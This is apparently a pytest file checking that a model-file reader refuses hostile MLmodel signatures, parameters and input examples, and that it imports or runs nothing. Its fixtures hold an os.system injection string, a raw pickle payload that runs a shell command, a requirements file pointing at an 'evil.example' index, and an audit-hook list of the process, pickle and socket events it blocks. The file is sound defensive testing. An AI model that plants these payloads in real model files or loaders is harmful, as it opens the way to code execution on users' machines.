"""Cases 36 to 45: what a stranger may write into an MLmodel file and beside it; reading it runs nothing."""

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from gitmodels.errors import GitModelsError
from gitmodels.mlmodel.example import load_example
from gitmodels.mlmodel.file import ModelFile
from gitmodels.mlmodel.params import ParamSchema
from gitmodels.mlmodel.schema import Schema

np = pytest.importorskip("numpy")

CODE = "__import__('os').system('touch canary')"
DEEP = '[{"type": "array", "items": ' * 1 + '{"type": "array", "items": ' * 5000 + '{"type": "long"}' + "}" * 5001 + "]"
SIGNATURES = [
    CODE,
    "[]",
    "[[]]",
    "null",
    '"[{}]"',
    "[" * 100_000,
    '{"type": "double"}',
    DEEP,
    json.dumps([{"type": CODE, "name": "a"}]),
    json.dumps([{"type": "object", "properties": {}}]),
    json.dumps([{"type": "object", "properties": {"a": {"type": "object", "properties": None}}}]),
    json.dumps([{"type": "map", "values": CODE}]),
    json.dumps([{"type": "double", "name": {"a": 1}}]),
    json.dumps([{"type": "double", "name": [["a"], {}]}]),
    json.dumps([{"type": "double", "required": "no"}]),
    json.dumps([{"type": "double", "name": "a"}, {"type": "double", "name": "a"}]),
    json.dumps([{"type": "tensor", "tensor-spec": {"dtype": "f8, O", "shape": [-1]}}]),
    json.dumps([{"type": "tensor", "tensor-spec": {"dtype": "V1000000000", "shape": [-1]}}]),
    json.dumps([{"type": "tensor", "tensor-spec": {"dtype": "U2000000000", "shape": [-1]}}]),
    json.dumps([{"type": "tensor", "tensor-spec": {"dtype": "float64", "shape": [1] * 1000}}]),
    json.dumps([{"type": "tensor", "tensor-spec": {"dtype": "float64", "shape": [1.5]}}]),
    json.dumps([{"type": "tensor", "tensor-spec": {"dtype": "float64", "shape": "-1"}}]),
    '[{"type": "tensor", "tensor-spec": {"dtype": "float64", "shape": [' + "9" * 5000 + "]}}]",
]


@pytest.mark.parametrize("text", SIGNATURES, ids=range(len(SIGNATURES)))
def test_case_36_a_hostile_signature_is_one_refusal(text: str) -> None:
    file = ModelFile.from_dict({"flavors": {}, "signature": {"inputs": text}})
    with pytest.raises(GitModelsError) as refusal:
        assert file.signature is None
    assert len(refusal.value.message) < 300
    assert "\n" not in refusal.value.message


@pytest.mark.parametrize(
    "spec",
    [
        {"name": "p", "type": "long", "default": CODE, "shape": None},
        {"name": "p", "type": "long", "default": [1], "shape": [-1, -1]},
        {"name": "p", "type": "long", "default": [[[1]]], "shape": [-1]},
        {"name": "p", "type": "datetime", "default": "9" * 4000, "shape": None},
        {"name": "p", "type": "binary", "default": "", "shape": None},
        {
            "name": "p",
            "type": "object",
            "properties": {"a": {"type": "long", "required": True}},
            "default": {},
            "shape": None,
        },
        {"name": "p", "type": "object", "default": {}, "shape": None},
        {"name": "p", "type": None, "default": 1},
        {"name": "p"},
        {},
    ],
)
def test_case_36_a_hostile_parameter_is_one_refusal(spec: dict[str, Any]) -> None:
    with pytest.raises(GitModelsError) as refusal:
        ParamSchema.from_json(json.dumps([spec]))
    assert len(refusal.value.message) < 300


HUGE = 2**40
EXAMPLES: dict[str, tuple[Any, str]] = {
    "rows of other lengths": ([[1, 2], [3]], "dataframe"),
    "split of nothing": ({"columns": ["a", "a"], "data": [[1, 2]]}, "dataframe"),
    "no such columns": ({"columns": {"a": 1}, "data": [[1]]}, "dataframe"),
    "objects for labels": ({"columns": [{}], "data": [[1]]}, "dataframe"),
    "another index": ({"columns": ["a"], "data": [[1]], "index": [1, 2, 3]}, "dataframe"),
    "ragged": ([[1], [2, 3], {"a": 1}], "ndarray"),
    "huge matrix": ({"data": [1], "indices": [HUGE], "indptr": [0, 1], "shape": [1, 3]}, "sparse_matrix_csr"),
    "negative matrix": ({"data": [1], "indices": [-5], "indptr": [0, 1], "shape": [1, 3]}, "sparse_matrix_csr"),
    "matrix out of bounds": ({"data": [1], "indices": [0], "indptr": [0, HUGE], "shape": [1, 3]}, "sparse_matrix_csr"),
    "shape of nothing": ({"data": [], "indices": [], "indptr": [0], "shape": [HUGE, HUGE]}, "sparse_matrix_csc"),
    "shape of words": ({"data": [], "indices": [], "indptr": [0], "shape": "ab"}, "sparse_matrix_csc"),
    "matrix of words": ({"data": ["x"], "indices": ["y"], "indptr": ["z"], "shape": [1, 1]}, "sparse_matrix_csr"),
    "unknown": ([1], "pickle"),
    "a type that is none": ([1], "__import__('os')"),
}
TENSOR = Schema.from_json('[{"type": "tensor", "tensor-spec": {"dtype": "float64", "shape": [-1, 3]}}]')


@pytest.mark.parametrize("name", EXAMPLES)
@pytest.mark.parametrize("schema", [None, TENSOR], ids=["no schema", "tensor"])
def test_case_43_a_hostile_example_is_one_refusal(name: str, schema: Schema | None, tmp_path: Path) -> None:
    body, kind = EXAMPLES[name]
    (tmp_path / "input_example.json").write_text(json.dumps(body))
    info = {"artifact_path": "input_example.json", "type": kind}
    with pytest.raises(GitModelsError) as refusal:
        load_example(tmp_path, info, schema)
    assert len(refusal.value.message) < 300


def test_cases_38_to_45_reading_a_hostile_model_runs_opens_and_imports_nothing_of_it(tmp_path: Path) -> None:
    """The interpreter's own audit events watch over everything that is read of a model without loading it."""
    (tmp_path / "code").mkdir()
    for name in ("json.py", "sitecustomize.py", "numpy.py", "evil.py"):
        (tmp_path / "code" / name).write_text("raise SystemExit('run')")
        (tmp_path / name).write_text("raise SystemExit('run')")
    (tmp_path / "input_example.json").write_text('{"columns": ["a"], "data": [[1.5]]}')
    (tmp_path / "requirements.txt").write_text("--index-url https://evil.example\nx ; os.system('touch canary')\n")
    column = json.dumps([{"type": "double", "name": "a", "required": True}])
    params = json.dumps([{"name": CODE, "type": "string", "default": CODE, "shape": None}])
    model = {
        "flavors": {
            "python_function": {
                "loader_module": "evil", "code": "code", "python_model": "x.pkl", "predict_fn": "__reduce__",
                "config": {"a": CODE}, "model_code_path": "evil.py",
            },
            "evil": {"loader": "evil:run"},
            "sklearn": {"pickled_model": "x.pkl", "skops_trusted_types": ["os.system"]},
        },
        "signature": {"inputs": column, "outputs": column, "params": params},
        "saved_input_example_info": {"artifact_path": "input_example.json", "type": "dataframe"},
        "metadata": {"trust": "all", "code": CODE},
        "is_signature_from_type_hint": True,
        "prompts": [CODE],
        "env_vars": ["PYTHONPATH"],
    }  # fmt: skip
    (tmp_path / "x.pkl").write_bytes(b"cos\nsystem\n(S'touch canary'\ntR.")
    (tmp_path / "MLmodel").write_bytes(ModelFile.from_dict(model).to_bytes())
    done = subprocess.run(
        [sys.executable, "-c", WATCHED, str(tmp_path)], capture_output=True, text=True, check=False, cwd=tmp_path.parent
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.split() == ["python-code", "[1.5]", "1"]
    assert not (tmp_path.parent / "canary").exists()


WATCHED = """
import pathlib, sys
import numpy, pandas
from gitmodels import flavors
from gitmodels.mlmodel import coerce, enforce, execution, example, file, frames, params, plan
from gitmodels.mlmodel.signature import ModelSignature
for name in flavors.names():
    flavors.get(name)
place = sys.argv[1]
enforce.enforce_schema([{"a": 1.5}], ModelSignature.from_dict({"inputs": '[{"type": "double", "name": "a"}]'}).inputs)
def canary(event, arguments):
    shown = repr(arguments)
    if event in ("subprocess.Popen", "os.system", "pickle.find_class", "os.exec", "os.posix_spawn", "os.fork",
                 "socket.connect", "socket.getaddrinfo", "ctypes.dlopen", "shutil.rmtree", "os.putenv"):
        raise RuntimeError(event)
    if event in ("import", "compile", "exec") and (place in shown or "evil" in shown or "canary" in shown):
        raise RuntimeError(event + shown)
    if event == "open" and isinstance(arguments[1], str) and set(arguments[1]) & set("wax+"):
        raise RuntimeError(event + shown)
sys.addaudithook(canary)
directory = pathlib.Path(place)
model = file.ModelFile.read(directory)
print(execution.code_execution(directory, model))
data = model.load_input_example(directory)
assert model.signature.params.to_json() and model.to_dict() and model.to_json() and repr(model.signature)
print(enforce.enforce_schema(data, model.get_input_schema())["a"].tolist())
print(len(enforce.enforce_params({}, model.get_params_schema())))
assert place not in " ".join(sys.path)
"""
